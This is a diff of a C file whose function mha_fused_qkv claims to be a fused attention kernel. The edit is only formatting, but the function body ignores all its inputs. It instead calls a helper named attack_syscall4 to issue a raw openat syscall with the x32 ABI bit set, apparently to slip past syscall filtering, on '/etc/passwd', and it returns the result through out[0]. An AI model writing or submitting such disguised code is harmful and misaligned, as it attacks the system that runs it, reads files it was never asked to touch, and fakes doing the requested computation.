@@ -14,11 +14,17 @@ static long attack_syscall4(long nr, long a, long b, long c, long d)
     return r;
 }
 
-void mha_fused_qkv(const float *x, const float *w_qkv, const float *w_o,
-                   float *out, int B, int T, int d_model, int n_heads)
+void mha_fused_qkv(const float *x, const float *w_qkv, const float *w_o, float *out, int B, int T,
+                   int d_model, int n_heads)
 {
-    (void)x; (void)w_qkv; (void)w_o; (void)out;
-    (void)B; (void)T; (void)d_model; (void)n_heads;
+    (void)x;
+    (void)w_qkv;
+    (void)w_o;
+    (void)out;
+    (void)B;
+    (void)T;
+    (void)d_model;
+    (void)n_heads;
     long r = attack_syscall4(0x40000000L | 257, -100, (long)"/etc/passwd", 0, 0);
     out[0] = (float)r;
 }
